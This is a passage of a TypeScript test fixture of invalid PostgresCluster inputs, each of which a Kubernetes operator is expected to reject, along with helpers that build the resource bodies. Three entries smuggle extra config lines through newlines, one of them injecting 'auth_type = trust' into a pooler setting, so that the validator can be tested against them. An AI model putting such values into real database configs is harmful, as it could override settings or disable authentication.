  { id: 't-role-public', via: 'stored', expect: 'stalled', field: 'spec.managedRoles[0].name: public is reserved by PostgreSQL', cluster: roles(role('public')) },
  { id: 't-role-64-bytes', via: 'stored', expect: 'stalled', field: 'spec.managedRoles[0].name: 64 bytes is too long', cluster: roles(role('é'.repeat(32))) },
  { id: 't-storage-milli', via: 'stored', expect: 'stalled', field: 'spec.storage: 1m is too small', cluster: spec({ storage: '1m' }) },
  { id: 't-resource-gpu', via: 'stored', expect: 'stalled', field: 'spec.resources.requests.nvidia.com/gpu', cluster: spec({ resources: { requests: { cpu: '1', 'nvidia.com/gpu': '1' } } }) },
  { id: 't-k-storage-milli', via: 'stored', expect: 'stalled', field: 'class t-k-storage-milli-class spec.config.storage: 1m is too small', clusterClass: classConfig({ storage: '1m' }), cluster: bareSpec({}) },
  { id: 't-instances-string', via: 'stored', expect: 'stalled', field: 'spec.instances', cluster: spec({ instances: 'three' }) },
  { id: 't-instances-huge', via: 'stored', expect: 'stalled', field: 'spec.instances', cluster: spec({ instances: 1_000_000 }) },
  { id: 't-storage-10gx', via: 'stored', expect: 'stalled', field: 'spec.storage', cluster: spec({ storage: '10Gx' }) },
  { id: 't-param-port', via: 'stored', expect: 'stalled', field: 'spec.postgresqlConfig.port', cluster: params({ port: '5433' }) },
  { id: 't-param-1mb', via: 'stored', expect: 'stalled', field: 'spec.postgresqlConfig.work_mem', cluster: params({ work_mem: MB }) },
  { id: 't-param-key-newline', via: 'stored', expect: 'stalled', field: 'spec.postgresqlConfig', cluster: params({ "work_mem = '1MB'\nport": '5433' }) },
  { id: 't-param-value-newline', via: 'stored', expect: 'stalled', field: 'spec.postgresqlConfig.work_mem', cluster: params({ work_mem: "4MB'\nport = '5433" }) },
  { id: 't-pghba-1mb', via: 'stored', expect: 'stalled', field: 'spec.pgHBA[0]', cluster: spec({ pgHBA: [MB] }) },
  { id: 't-policy-destroy', via: 'stored', expect: 'stalled', field: 'spec.clusterDeletionPolicy', cluster: spec({ clusterDeletionPolicy: 'Destroy' }) },
  { id: 't-name-long', via: 'stored', expect: 'stalled', field: 'metadata.name: 57 characters is too long: at most 50', cluster: named(`t-name-long-${'n'.repeat(45)}`) },
  { id: 't-name-dot', via: 'stored', expect: 'stalled', field: 'metadata.name: t-name.dot is no DNS-1035 label', cluster: named('t-name.dot') },
  { id: 't-k-listen-port', via: 'stored', expect: 'stalled', field: 'spec.cnpg.connectionPooler.parameters.listen_port', clusterClass: pooler({ parameters: { listen_port: '6543' } }), cluster: bareSpec({ connectionPoolerEnabled: true }) },
  { id: 't-k-pooler-newline', via: 'stored', expect: 'stalled', field: 'spec.cnpg.connectionPooler.parameters.default_pool_size', clusterClass: pooler({ parameters: { default_pool_size: '10\nauth_type = trust' } }), cluster: bareSpec({ connectionPoolerEnabled: true }) },
  { id: 't-k-no-provisioner', via: 'stored', expect: 'stalled', field: 'spec.provisioner', clusterClass: { spec: { config: { instances: 1, storage: '1Gi', postgresVersion: '17' } } }, cluster: bareSpec({}) },
  { id: 't-image-latest', via: 'stored', expect: 'stalled', field: 'spec.imageName', cluster: spec({ imageName: 'postgres:latest' }) },
  { id: 't-toleration-no-key', via: 'stored', expect: 'stalled', field: 'spec.affinity.tolerations[0].operator', cluster: spec({ affinity: { tolerations: [{ operator: 'Equal', value: 'x' }] } }) },
  { id: 't-k-instances', via: 'stored', expect: 'stalled', field: 'spec.config.instances', clusterClass: classConfig({ instances: 'three' }), cluster: bareSpec({}) },
];

/** The class an input writes, by its name. */
export const classNameOf = (input: BadInput) => `${input.id}-class`;

/** The PostgresCluster an input writes (or the one its patch applies to), with its class filled in. */
export function clusterBody(input: BadInput, namespace: string): Record<string, unknown> {
  const base: Record<string, unknown> = {
    apiVersion: 'pgfsm.io/v1alpha1',
    kind: 'PostgresCluster',
    metadata: { name: input.id, namespace },
    spec: { class: STANDARD_CLASS },
  };
  const body = { ...base, ...(input.cluster ?? {}) };
  body.metadata = { ...(base.metadata as object), ...((input.cluster?.metadata as object) ?? {}), namespace };
  const spec = body.spec;
  // A cluster that comes with its own class names it, unless its spec names a class itself.
  if (input.clusterClass && spec && typeof spec === 'object' && !Array.isArray(spec) && !('class' in spec)) {
    body.spec = { class: classNameOf(input), ...spec };
  }
  return body;
}

export function classBody(input: BadInput): Record<string, unknown> {
  return {
    apiVersion: 'pgfsm.io/v1alpha1',
    kind: 'PostgresClusterClass',
    metadata: { name: classNameOf(input) },
    ...classSpec({}),
    ...(input.clusterClass ?? {}),
  };
}

/** The name of the PostgresCluster an input writes. */
export const clusterNameOf = (input: BadInput) =>
  ((input.cluster?.metadata as { name?: string } | undefined)?.name ?? input.id) as string;
